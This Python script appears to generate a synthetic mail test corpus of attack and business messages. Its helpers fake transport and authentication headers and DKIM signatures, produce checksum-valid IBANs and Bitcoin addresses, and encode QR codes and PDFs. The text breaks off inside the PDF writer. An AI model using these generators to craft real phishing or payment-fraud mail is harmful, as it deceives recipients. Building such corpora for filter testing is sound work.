#!/usr/bin/env python3
"""Build the held-out mail test corpus (attack/ and business/) for Example Group.

Python 3 standard library only.  Deterministic: no clocks, no unseeded
randomness, no hash-order dependence; re-running yields byte-identical files.
Output goes to the folder ABOVE this script's directory.
"""
import base64
import binascii
import datetime
import hashlib
import io
import os
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.dirname(HERE)
CRLF = "\r\n"

# ---------------------------------------------------------------------------
# deterministic pseudo-randomness
# ---------------------------------------------------------------------------

def H(*parts):
    return hashlib.sha256("\x1f".join(str(p) for p in parts).encode("utf-8")).digest()


def hexid(n, *parts):
    out = b""
    i = 0
    while len(out) * 2 < n:
        out += H(i, *parts)
        i += 1
    return out.hex()[:n]


def alnum(n, *parts, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"):
    out = []
    i = 0
    while len(out) < n:
        for b in H(i, *parts):
            out.append(alphabet[b % len(alphabet)])
        i += 1
    return "".join(out[:n])


def b64blob(n, *parts):
    raw = b""
    i = 0
    while len(raw) < n:
        raw += H("blob", i, *parts)
        i += 1
    return base64.b64encode(raw[:n]).decode()


def postfix_qid(*parts):
    # Postfix long queue id (enable_long_queue_ids) look-alike
    alpha = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
    return "4d" + alnum(1, "q1", *parts, alphabet="BCDFGHJKLMN") + alnum(10, "q", *parts, alphabet=alpha)


# ---------------------------------------------------------------------------
# dates
# ---------------------------------------------------------------------------

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


class T:
    """A moment: local wall-clock time + offset in minutes."""

    def __init__(self, y, mo, d, h, mi, s, off_min):
        self.dt = datetime.datetime(y, mo, d, h, mi, s)
        self.off = off_min

    @property
    def utc(self):
        return self.dt - datetime.timedelta(minutes=self.off)

    def shift(self, seconds=0, off_min=None):
        if off_min is None:
            off_min = self.off
        u = self.utc + datetime.timedelta(seconds=seconds)
        l = u + datetime.timedelta(minutes=off_min)
        return T(l.year, l.month, l.day, l.hour, l.minute, l.second, off_min)

    def offstr(self):
        sign = "+" if self.off >= 0 else "-"
        o = abs(self.off)
        return "%s%02d%02d" % (sign, o // 60, o % 60)

    def rfc(self):
        d = self.dt
        return "%s, %02d %s %04d %02d:%02d:%02d %s" % (
            DAYS[d.weekday()], d.day, MONS[d.month - 1], d.year, d.hour, d.minute, d.second, self.offstr())

    def postfix(self, zone="CET"):
        d = self.dt
        return "%s, %2d %s %04d %02d:%02d:%02d %s (%s)" % (
            DAYS[d.weekday()], d.day, MONS[d.month - 1], d.year, d.hour, d.minute, d.second, self.offstr(), zone)

    def ical(self):
        u = self.utc
        return u.strftime("%Y%m%dT%H%M%SZ")

    def iso(self):
        return self.dt.strftime("%Y-%m-%dT%H:%M:%S") + self.offstr()[:3] + ":" + self.offstr()[3:]

    def cet(self):
        return self.shift(0, 60)


def t(d, hms, off=60):
    """t(1, '09:14:22', off) -> December d (or 30 -> Nov 30) 2026."""
    h, m, s = (int(x) for x in hms.split(":"))
    if d == 30:
        return T(2026, 11, 30, h, m, s, off)
    return T(2026, 12, d, h, m, s, off)


# ---------------------------------------------------------------------------
# header encoding (RFC 2047 / 2231)
# ---------------------------------------------------------------------------

def is_ascii(s):
    try:
        s.encode("ascii")
        return True
    except UnicodeEncodeError:
        return False


_QSAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _q(b):
    out = []
    for c in b:
        if c == 0x20:
            out.append("_")
        elif c in _QSAFE:
            out.append(chr(c))
        else:
            out.append("=%02X" % c)
    return "".join(out)


def ew(text, cs="utf-8", enc="B", first=0):
    """Encode an unstructured header value as RFC 2047 encoded-words, folded."""
    if is_ascii(text):
        return fold_ascii(text, first)
    words = []
    cur = ""
    pre = "=?%s?%s?" % (cs, enc)

    def enc_len(s):
        b = s.encode(cs)
        if enc == "B":
            return len(pre) + 4 * ((len(b) + 2) // 3) + 2
        return len(pre) + len(_q(b)) + 2

    def render(s):
        b = s.encode(cs)
        if enc == "B":
            return pre + base64.b64encode(b).decode() + "?="
        return pre + _q(b) + "?="

    for ch in text:
        if cur and enc_len(cur + ch) > 75:
            words.append(render(cur))
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(render(cur))
    return (CRLF + " ").join(words)


def fold_ascii(text, first=0, limit=78):
    if len(text) + first <= limit:
        return text
    words = text.split(" ")
    lines = []
    cur = ""
    width = first
    for w in words:
        if cur and width + len(cur) + 1 + len(w) > limit:
            lines.append(cur)
            cur = w
            width = 1
        else:
            cur = (cur + " " + w) if cur else w
    lines.append(cur)
    return (CRLF + " ").join(lines)


_SPECIALS = set('()<>[]:;@\\,."')


def addr(name, email, cs="utf-8", enc="B"):
    if not name:
        return email
    if is_ascii(name):
        if any(c in _SPECIALS for c in name):
            return '"%s" <%s>' % (name.replace("\\", "\\\\").replace('"', '\\"'), email)
        return "%s <%s>" % (name, email)
    return "%s <%s>" % (ew(name, cs, enc), email)


def addrs(lst, cs="utf-8", enc="B"):
    return ("," + CRLF + " ").join(addr(n, e, cs, enc) for n, e in lst)


def rfc2231(value, cs="utf-8"):
    b = value.encode(cs)
    out = []
    for c in b:
        if chr(c).isalnum() and c < 128 or chr(c) in "-._~":
            out.append(chr(c))
        else:
            out.append("%%%02X" % c)
    return "%s''%s" % (cs, "".join(out))


# ---------------------------------------------------------------------------
# MIME parts
# ---------------------------------------------------------------------------

class Part:
    def __init__(self, headers, body):
        self.headers = headers  # list of (name, value)
        self.body = body        # bytes, CRLF line endings

    def render(self):
        h = "".join("%s: %s%s" % (k, v, CRLF) for k, v in self.headers)
        return h.encode("ascii") + CRLF.encode() + self.body


def crlf(s):
    return s.replace("\r\n", "\n").replace("\n", "\r\n")


def b64lines(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def qp(data):
    # data: bytes with LF line endings
    enc = binascii.b2a_qp(data, quotetabs=False, istext=True, header=False)
    return enc.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def encode_body(text, cs, cte, html=False):
    text = text.replace("\r\n", "\n")
    errors = "xmlcharrefreplace" if html else "strict"
    raw = text.encode(cs, errors)
    if cte == "base64":
        return b64lines(raw.replace(b"\n", b"\r\n"))
    if cte == "quoted-printable":
        out = qp(raw)
        if not out.endswith(b"\r\n"):
            out += b"\r\n"
        return out
    if cte in ("8bit", "7bit"):
        if cte == "7bit":
            raw.decode("ascii")
        out = raw.replace(b"\n", b"\r\n")
        if not out.endswith(b"\r\n"):
            out += b"\r\n"
        for line in out.split(b"\r\n"):
            assert len(line) < 998, "line too long for %s" % cte
        return out
    raise ValueError(cte)


def text(body, sub="plain", cs="utf-8", cte="quoted-printable", flowed=False, extra=None, ct_extra=""):
    ct = "text/%s; charset=%s" % (sub, cs if cs.lower() != "us-ascii" else "us-ascii")
    if flowed:
        ct += "; format=flowed"
    ct += ct_extra
    hdrs = [("Content-Type", ct), ("Content-Transfer-Encoding", cte)]
    if extra:
        hdrs += extra
    return Part(hdrs, encode_body(body, cs, cte, html=(sub == "html")))


def html(body, cs="utf-8", cte="quoted-printable", extra=None):
    return text(body, "html", cs, cte, extra=extra)


def att(data, ctype, filename, cte="base64", disp="attachment", cid=None, style="2231",
        name_cs="utf-8", extra_ct="", size=True, inline_name=True):
    if isinstance(data, str):
        data = data.encode("utf-8")
    if is_ascii(filename):
        fn_ct = '; name="%s"' % filename
        fn_cd = '; filename="%s"' % filename
    elif style == "2231":
        fn_ct = '; name="%s"' % ew(filename, name_cs, "B").replace(CRLF + " ", " ")
        fn_cd = "; filename*=%s" % rfc2231(filename, name_cs)
    else:  # 2047 (Outlook/Gmail style)
        e = ew(filename, name_cs, "B").replace(CRLF + " ", CRLF + "\t")
        fn_ct = '; name="%s"' % e
        fn_cd = '; filename="%s"' % e
    ct = ctype + extra_ct + (fn_ct if inline_name else "")
    hdrs = [("Content-Type", ct)]
    cdv = disp + fn_cd
    if size and disp == "attachment":
        cdv += "; size=%d" % len(data)
    hdrs.append(("Content-Disposition", cdv))
    if cid:
        hdrs.append(("Content-ID", "<%s>" % cid))
    hdrs.append(("Content-Transfer-Encoding", cte))
    if cte == "base64":
        body = b64lines(data)
    elif cte == "quoted-printable":
        body = qp(data.replace(b"\r\n", b"\n"))
    else:
        body = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        if not body.endswith(b"\r\n"):
            body += b"\r\n"
    return Part(hdrs, body)


def inline_img(data, ctype, filename, cid):
    hdrs = [("Content-Type", '%s; name="%s"' % (ctype, filename)),
            ("Content-Description", filename),
            ("Content-Disposition", 'inline; filename="%s"; size=%d' % (filename, len(data))),
            ("Content-ID", "<%s>" % cid),
            ("Content-Transfer-Encoding", "base64")]
    return Part(hdrs, b64lines(data))


def msg_att(raw, filename=None, cte="7bit"):
    ct = "message/rfc822"
    hdrs = [("Content-Type", ct + ('; name="%s"' % filename if filename else ""))]
    if filename:
        hdrs.append(("Content-Disposition", 'attachment; filename="%s"' % filename))
    hdrs.append(("Content-Transfer-Encoding", cte))
    body = raw if raw.endswith(b"\r\n") else raw + b"\r\n"
    return Part(hdrs, body)


def multi(sub, parts, boundary, extra="", preamble=None):
    ct = 'multipart/%s;%s boundary="%s"%s' % (sub, CRLF + "\t", boundary, extra)
    out = b""
    if preamble:
        out += crlf(preamble).encode("ascii") + b"\r\n"
    for p in parts:
        out += b"\r\n--" + boundary.encode() + b"\r\n" if out else b"--" + boundary.encode() + b"\r\n"
        out += p.render()
    out += b"\r\n--" + boundary.encode() + b"--\r\n"
    return Part([("Content-Type", ct)], out)


def bnd(style, *seed):
    if style == "outlook":
        return "_000_%s_" % alnum(40, "b", *seed, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
    if style == "gmail":
        return "000000000000" + hexid(16, "b", *seed)
    if style == "apple":
        h = hexid(32, "b", *seed).upper()
        return "Apple-Mail=_%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32])
    if style == "tb":
        return "------------" + alnum(24, "b", *seed)
    if style == "javamail":
        return "----=_Part_%d_%d.%d" % (int(hexid(6, "a", *seed), 16) % 900000, int(hexid(8, "c", *seed), 16) % 999999999, 1764000000000 + int(hexid(6, "d", *seed), 16) % 900000000)
    if style == "php":
        return "b1_" + hexid(32, "b", *seed)
    if style == "exim":
        return "=_" + hexid(32, "b", *seed)
    return "----=_NextPart_000_%s_%s.%s" % (hexid(4, "x", *seed).upper(), hexid(8, "y", *seed).upper(), hexid(8, "z", *seed).upper())


# ---------------------------------------------------------------------------
# message assembly and transport headers
# ---------------------------------------------------------------------------

MX = "mx01.example.com"
TLS13 = ("(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)" + CRLF +
         "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)" + CRLF +
         "\t(No client certificate requested)")
TLS12 = ("(using TLSv1.2 with cipher ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits))" + CRLF +
         "\t(No client certificate requested)")


def rcv_mx(helo, rdns, ip, rcpt, when, tls="1.3", key=""):
    """Top Received line written by mx01.example.com."""
    src = "%s (%s [%s])" % (helo, rdns or "unknown", ip)
    s = "from " + src + CRLF + "\t"
    if tls == "1.3":
        s += TLS13 + CRLF + "\t"
        proto = "ESMTPS"
    elif tls == "1.2":
        s += TLS12 + CRLF + "\t"
        proto = "ESMTPS"
    else:
        proto = "ESMTP"
    s += "by %s (Postfix) with %s id %s" % (MX, proto, postfix_qid(key, ip, rcpt)) + CRLF + "\t"
    s += "for <%s>; %s" % (rcpt, when.cet().postfix())
    return s


def auth_res(spf=None, dkim=None, dmarc=None, extra=None):
    """spf=(result, mailfrom, ip) ; dkim=(result, d, s) ; dmarc=(result, from_dom, policy)."""
    items = []
    if dkim:
        r, d, sel = dkim[:3]
        if r == "none":
            items.append("dkim=none (message not signed)")
        else:
            note = {"pass": "(2048-bit key; unprotected)", "fail": "(2048-bit key; signature verification failed)",
                    "neutral": "(no key for signature)"}.get(r, "")
            items.append("dkim=%s %s header.d=%s header.i=@%s header.a=rsa-sha256 header.s=%s header.b=%s" % (
                r, note, d, d, sel, alnum(8, "hb", d, sel)))
    if spf:
        r, mf, ip = spf
        dom = mf.split("@")[-1]
        why = {
            "pass": "(%s: domain of %s designates %s as permitted sender)" % (MX, mf, ip),
            "softfail": "(%s: domain of transitioning %s does not designate %s as permitted sender)" % (MX, mf, ip),
            "fail": "(%s: domain of %s does not designate %s as permitted sender)" % (MX, mf, ip),
            "none": "(%s: %s does not designate permitted sender hosts)" % (MX, dom),
            "neutral": "(%s: %s is neither permitted nor denied by domain of %s)" % (MX, ip, mf),
        }[r]
        items.append("spf=%s %s smtp.mailfrom=%s" % (r, why, mf))
    if dmarc:
        r, fd, pol = dmarc
        if r == "none":
            items.append("dmarc=none (p=none dis=none) header.from=%s" % fd)
        else:
            dis = "none"
            if r == "fail":
                dis = {"reject": "none", "quarantine": "none", "none": "none"}[pol]
            items.append("dmarc=%s (p=%s dis=%s) header.from=%s" % (r, pol, dis, fd))
    if extra:
        items += extra
    return MX + ";" + CRLF + "\t" + (";" + CRLF + "\t").join(items)


def dkim_sig(d, s, hdrs, key, when, a="rsa-sha256", c="relaxed/relaxed"):
    bh = b64blob(32, "bh", key)
    b = b64blob(256, "sig", key)
    bl = [b[i:i + 70] for i in range(0, len(b), 70)]
    v = "v=1; a=%s; c=%s; d=%s;%s\ts=%s; t=%d; x=%d; h=%s;%s\tbh=%s;%s\tb=%s" % (
        a, c, d, CRLF, s, int(when.utc.replace(tzinfo=datetime.timezone.utc).timestamp()),
        int(when.utc.replace(tzinfo=datetime.timezone.utc).timestamp()) + 604800,
        hdrs, CRLF, bh, CRLF, (CRLF + "\t ").join(bl))
    return v


def build(hdrs, root):
    """hdrs: list of (name, value). root: Part whose headers become the top-level MIME headers."""
    out = []
    for k, v in hdrs:
        out.append("%s: %s" % (k, v))
    out.append("MIME-Version: 1.0")
    for k, v in root.headers:
        out.append("%s: %s" % (k, v))
    head = CRLF.join(out) + CRLF + CRLF
    return head.encode("ascii") + root.body


def msgid_outlook(key, region="eurprd07", srv=None):
    srv = srv or ("AM" + str(5 + int(hexid(2, "s", key), 16) % 4) + "PR0" + str(1 + int(hexid(2, "t", key), 16) % 9) + "MB" + str(1000 + int(hexid(4, "u", key), 16) % 9000))
    return "<%s%s@%s.%s.prod.outlook.com>" % (srv, alnum(12, "mid", key, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), srv, region), srv


def msgid_gmail(key):
    return "<CA%s@mail.gmail.com>" % alnum(44, "gm", key, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+_-")


def msgid_generic(key, dom, style="hex"):
    if style == "hex":
        return "<%s.%s@%s>" % (hexid(16, "m1", key), hexid(8, "m2", key), dom)
    if style == "uuid":
        h = hexid(32, "uu", key)
        return "<%s-%s-%s-%s-%s@%s>" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:], dom)
    return "<%s@%s>" % (alnum(24, "m3", key), dom)

# ---------------------------------------------------------------------------
# IBAN and Bitcoin helpers (valid check digits / checksums)
# ---------------------------------------------------------------------------

def _iban_num(s):
    return int("".join(str(int(c, 36)) for c in s))


def iban(cc, bban):
    chk = 98 - _iban_num(bban + cc + "00") % 97
    return "%s%02d%s" % (cc, chk, bban)


def iban_ok(i):
    i = i.replace(" ", "")
    return _iban_num(i[4:] + i[:4]) % 97 == 1


def iban_fmt(i):
    return " ".join(i[k:k + 4] for k in range(0, len(i), 4))


def it_cin(abi, cab, conto):
    s = abi + cab + conto
    odd = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
    tot = 0
    for i, c in enumerate(s):
        v = int(c) if c.isdigit() else ord(c.upper()) - 65
        tot += odd[v] if i % 2 == 0 else v
    return chr(65 + tot % 26)


def iban_it(abi, cab, conto):
    conto = conto.zfill(12)
    return iban("IT", it_cin(abi, cab, conto) + abi + cab + conto)


def es_dc(bank, branch, acct):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]

    def d(s):
        r = 11 - sum(int(c) * w[i] for i, c in enumerate(s)) % 11
        return 0 if r == 11 else 1 if r == 10 else r
    return "%d%d" % (d("00" + bank + branch), d(acct))


def iban_es(bank, branch, acct):
    return iban("ES", bank + branch + es_dc(bank, branch, acct) + acct)


def iban_pl(sort7, acct16):
    w = [3, 9, 7, 1, 3, 9, 7]
    c = (10 - sum(int(x) * w[i] for i, x in enumerate(sort7)) % 10) % 10
    return iban("PL", sort7 + str(c) + acct16)


def iban_be(bank3, acct7):
    n = int(bank3 + acct7) % 97
    return iban("BE", bank3 + acct7 + "%02d" % (n or 97))


B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def btc_p2pkh(seed):
    payload = b"\x00" + hashlib.new("sha256", H("btc", seed)).digest()[:20]
    chk = hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(payload + chk, "big")
    s = ""
    while n:
        n, r = divmod(n, 58)
        s = B58[r] + s
    pad = len(payload + chk) - len((payload + chk).lstrip(b"\x00"))
    return "1" * pad + s


BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _bech_polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = (chk & 0x1ffffff) << 5 ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def _convertbits(data, frombits, tobits):
    acc = 0
    bits = 0
    ret = []
    maxv = (1 << tobits) - 1
    for v in data:
        acc = (acc << frombits) | v
        bits += frombits
        while bits >= tobits:
            bits -= tobits
            ret.append((acc >> bits) & maxv)
    if bits:
        ret.append((acc << (tobits - bits)) & maxv)
    return ret


def btc_bech32(seed, hrp="bc"):
    prog = H("bech", seed)[:20]
    data = [0] + _convertbits(prog, 8, 5)
    hrpx = [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]
    pm = _bech_polymod(hrpx + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + "1" + "".join(BECH[d] for d in data + chk)


# ---------------------------------------------------------------------------
# QR code encoder (byte mode, EC level M or L, versions 1-6) + PNG writer
# ---------------------------------------------------------------------------

# (ec codewords per block, number of blocks, total codewords)
QR_L = {1: (7, 1, 26), 2: (10, 1, 44), 3: (15, 1, 70), 4: (20, 1, 100), 5: (26, 1, 134), 6: (18, 2, 172)}
QR_M = {1: (10, 1, 26), 2: (16, 1, 44), 3: (26, 1, 70), 4: (18, 2, 100), 5: (24, 2, 134), 6: (16, 4, 172)}


def _gf_mul(x, y):
    z = 0
    for i in range(7, -1, -1):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z & 0xFF


def _rs_divisor(deg):
    res = [0] * (deg - 1) + [1]
    root = 1
    for _ in range(deg):
        for j in range(len(res)):
            res[j] = _gf_mul(res[j], root)
            if j + 1 < len(res):
                res[j] ^= res[j + 1]
        root = _gf_mul(root, 0x02)
    return res


def _rs_rem(data, div):
    res = [0] * len(div)
    for b in data:
        f = b ^ res.pop(0)
        res.append(0)
        for i, c in enumerate(div):
            res[i] ^= _gf_mul(c, f)
    return res


def qr_matrix(payload, ecl="M"):
    if isinstance(payload, str):
        payload = payload.encode("utf-8")
    table = QR_M if ecl == "M" else QR_L
    for ver in range(1, 7):
        ecpb, nb, total = table[ver]
        cap = total - ecpb * nb
        if 4 + 8 + 8 * len(payload) <= cap * 8:
            break
    else:
        raise ValueError("QR payload too long: %d" % len(payload))
    bits = [0, 1, 0, 0] + [(len(payload) >> i) & 1 for i in range(7, -1, -1)]
    for b in payload:
        bits += [(b >> i) & 1 for i in range(7, -1, -1)]
    bits += [0] * min(4, cap * 8 - len(bits))
    bits += [0] * (-len(bits) % 8)
    pad = 0xEC
    while len(bits) < cap * 8:
        bits += [(pad >> i) & 1 for i in range(7, -1, -1)]
        pad ^= 0xEC ^ 0x11
    data = [int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    # blocks
    nshort = nb - total % nb
    shortlen = total // nb
    div = _rs_divisor(ecpb)
    blocks = []
    k = 0
    for i in range(nb):
        dl = shortlen - ecpb + (0 if i < nshort else 1)
        dat = data[k:k + dl]
        k += dl
        blocks.append((dat, _rs_rem(dat, div)))
    final = []
    maxd = max(len(b[0]) for b in blocks)
    for i in range(maxd):
        for d, e in blocks:
            if i < len(d):
                final.append(d[i])
    for i in range(ecpb):
        for d, e in blocks:
            final.append(e[i])
    size = 17 + 4 * ver
    M = [[False] * size for _ in range(size)]
    F = [[False] * size for _ in range(size)]

    def setf(x, y, v):
        M[y][x] = v
        F[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    d = max(abs(dx), abs(dy))
                    setf(x, y, d not in (2, 4))
    if ver >= 2:
        p = size - 7
        for dy in range(-2, 3):
            for dx in range(-2, 3):
                setf(p + dx, p + dy, max(abs(dx), abs(dy)) != 1)

    def draw_format(mask):
        dbits = (1 if ecl == "L" else 0) << 3 | mask
        rem = dbits
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        fb = ((dbits << 10) | rem) ^ 0x5412
        g = lambda i: (fb >> i) & 1 == 1
        for i in range(6):
            setf(8, i, g(i))
        setf(8, 7, g(6))
        setf(8, 8, g(7))
        setf(7, 8, g(8))
        for i in range(9, 15):
            setf(14 - i, 8, g(i))
        for i in range(8):
            setf(size - 1 - i, 8, g(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, g(i))
        setf(8, size - 8, True)
    draw_format(0)
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not F[y][x] and i < len(final) * 8:
                    M[y][x] = (final[i >> 3] >> (7 - (i & 7))) & 1 == 1
                    i += 1
        right -= 2
    masks = [
        lambda x, y: (x + y) % 2 == 0, lambda x, y: y % 2 == 0, lambda x, y: x % 3 == 0,
        lambda x, y: (x + y) % 3 == 0, lambda x, y: (x // 3 + y // 2) % 2 == 0,
        lambda x, y: x * y % 2 + x * y % 3 == 0, lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
        lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0]

    def apply(m):
        for y in range(size):
            for x in range(size):
                if not F[y][x] and masks[m](x, y):
                    M[y][x] = not M[y][x]

    def penalty():
        p = 0
        for rows in (M, [list(c) for c in zip(*M)]):
            for row in rows:
                run = 1
                for k2 in range(1, size + 1):
                    if k2 < size and row[k2] == row[k2 - 1]:
                        run += 1
                    else:
                        if run >= 5:
                            p += 3 + run - 5
                        run = 1
        for y in range(size - 1):
            for x in range(size - 1):
                c = M[y][x]
                if c == M[y][x + 1] == M[y + 1][x] == M[y + 1][x + 1]:
                    p += 3
        dark = sum(sum(r) for r in M)
        k3 = (abs(dark * 20 - size * size * 10) + size * size - 1) // (size * size) - 1
        p += k3 * 10
        return p
    best = None
    for m in range(8):
        apply(m)
        draw_format(m)
        pen = penalty()
        if best is None or pen < best[0]:
            best = (pen, m)
        apply(m)
    apply(best[1])
    draw_format(best[1])
    return M


def png_gray(rows):
    h = len(rows)
    w = len(rows[0])
    raw = b"".join(b"\x00" + bytes(r) for r in rows)

    def chunk(tag, data):
        c = tag + data
        return struct.pack(">I", len(data)) + c + struct.pack(">I", zlib.crc32(c) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def qr_png(payload, scale=6, border=4, ecl="M"):
    M = qr_matrix(payload, ecl)
    n = len(M)
    rows = []
    for y in range(-border, n + border):
        row = []
        for x in range(-border, n + border):
            dark = 0 <= x < n and 0 <= y < n and M[y][x]
            row += [0 if dark else 255] * scale
        for _ in range(scale):
            rows.append(row)
    return png_gray(rows)


def banner_png(w, h, rgb_seed):
    """A small harmless grayscale banner/logo image."""
    rows = []
    s = H("banner", rgb_seed)
    for y in range(h):
        rows.append([(s[(x // 8 + y // 8) % 32] // 2 + 100) if (x // 8 + y // 8) % 3 else 235 for x in range(w)])
    return png_gray(rows)


# ---------------------------------------------------------------------------
# minimal PDF writer (Helvetica with Latin-1/Latin-2 glyphs, Symbol for Greek)
# ---------------------------------------------------------------------------

PDF_DIFF = [(0x81, ["aogonek", "cacute", "eogonek", "lslash", "nacute", "sacute", "zacute", "zdotaccent",
                    "Aogonek", "Cacute", "Eogonek", "Lslash", "Nacute", "Sacute", "Zacute", "Zdotaccent"])]
_PL = "ąćęłńśźżĄĆĘŁŃŚŹŻ"
_PDF_MAP = {c: 0x81 + i for i, c in enumerate(_PL)}
_GREEK = {}
for _u, _s in zip("ΑΒΓΔΕΖΗΘΙΚΛΜΝΞΟΠΡΣΤΥΦΧΨΩ", "ABGDEZHQIKLMNXOPRSTUFCYW"):
    _GREEK[_u] = _s
for _u, _s in zip("αβγδεζηθικλμνξοπρστυφχψως", "abgdezhqiklmnxoprstufcywV"):
    _GREEK[_u] = _s
for _u, _s in zip("άέήίόύώϊϋΐΰΆΈΉΊΌΎΏ", "aehiouwiuiuAEHIOUW"):
    _GREEK[_u] = _s


def _pdf_str(s, font):
    out = bytearray()
    for ch in s:
        if font == "S":
            if ch in _GREEK:
                out += _GREEK[ch].encode("ascii")
            else:
                out += ch.encode("ascii")
        elif ch in _PDF_MAP:
            out.append(_PDF_MAP[ch])
        else:
            b = ch.encode("cp1252")
            assert b[0] < 0x81 or b[0] > 0x90 or b[0] in (0x80,), "char not available in PDF encoding: %r" % ch
            out += b
    res = bytearray()
    for b in out:
        if b in (0x28, 0x29, 0x5C):
            res += b"\\" + bytes([b])
        elif b < 32 or b > 126:
            res += b"\\%03o" % b
        else:
            res.append(b)
    return bytes(res)


def _runs(s):
    """split a line into (font, text) runs: Greek letters go to Symbol."""
    runs = []
    for ch in s:
        f = "S" if ch in _GREEK else "T"
        if runs and (runs[-1][0] == f or (ch == " " and runs[-1][0] == "S")):
            runs[-1][1] += ch
        else:
            runs.append([f, ch])
    return runs


def _symbol_cmap():
    rev = {}
    for u, c in _GREEK.items():
        if c not in rev and u in "ΑΒΓΔΕΖΗΘΙΚΛΜΝΞΟΠΡΣΤΥΦΧΨΩαβγδεζηθικλμνξοπρστυφχψως":
            rev[c] = u
    lines = ["/CIDInit /ProcSet findresource begin", "12 dict begin", "begincmap",
             "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def",
             "/CMapName /Symbol-Greek-UCS def", "/CMapType 2 def", "1 begincodespacerange", "<00> <FF>", "endcodespacerange"]
    items = sorted(rev.items()) + [(" ", " ")]
    lines.append("%d beginbfchar" % len(items))
    for c, u in items:
        lines.append("<%02X> <%04X>" % (ord(c), ord(u)))
    lines += ["endbfchar", "endcmap", "CMapName currentdict /CMap defineresource pop", "end", "end"]
    return zlib.compress(("\n".join(lines) + "\n").encode("ascii"), 9)


class PDF:
    def __init__(self, title, author, producer, when, creator="Microsoft® Word für Microsoft 365"):
        self.ops = []
        self.title, self.author, self.producer, self.when, self.creator = title, author, producer, when, creator
        self.y = 800

    def text(self, x, y, s, size=10, bold=False):
        fk = "F2" if bold else "F1"
        parts = ["BT"]
        parts.append("%d %d Td" % (x, y))
        for f, chunk in _runs(s):
            fn = "F3" if f == "S" else fk
            parts.append("/%s %g Tf (%s) Tj" % (fn, size, _pdf_str(chunk, f).decode("latin-1")))
        parts.append("ET")
        self.ops.append(" ".join(parts))

    def line(self, s="", size=10, bold=False, x=56, gap=None):
        self.text(x, self.y, s, size, bold)
        self.y -= gap if gap else int(size * 1.45)

    def lines(self, block, size=10, x=56):
        for l in block.split("\n"):
            b = l.startswith("**")
            self.line(l[2:] if b else l, size, b, x)

    def rule(self, y=None, x1=56, x2=539, w=0.5):
        y = self.y + 6 if y is None else y
        self.ops.append("%g w %d %d m %d %d l S" % (w, x1, y, x2, y))

    def rect(self, x, y, w, h, gray=0.9):
        self.ops.append("%g g %d %d %d %d re f 0 g" % (gray, x, y, w, h))

    def qr(self, payload, x, y, module=2.2, ecl="M"):
        M = qr_matrix(payload, ecl)
        n = len(M)
        ops = ["0 g"]
        for r in range(n):
            for c in range(n):
                if M[r][c]:
                    ops.append("%.2f %.2f %.2f %.2f re" % (x + c * module, y + (n - 1 - r) * module, module, module))
        ops.append("f")
        self.ops.append(" ".join(ops))

    def render(self):
        content = zlib.compress(("\n".join(self.ops) + "\n").encode("latin-1"), 9)
        d = self.when
        pdfdate = "D:%s%s'%s'" % (d.dt.strftime("%Y%m%d%H%M%S"), d.offstr()[:3], d.offstr()[3:])
        diff = " ".join("%d %s" % (start, " ".join("/" + n for n in names)) for start, names in PDF_DIFF)

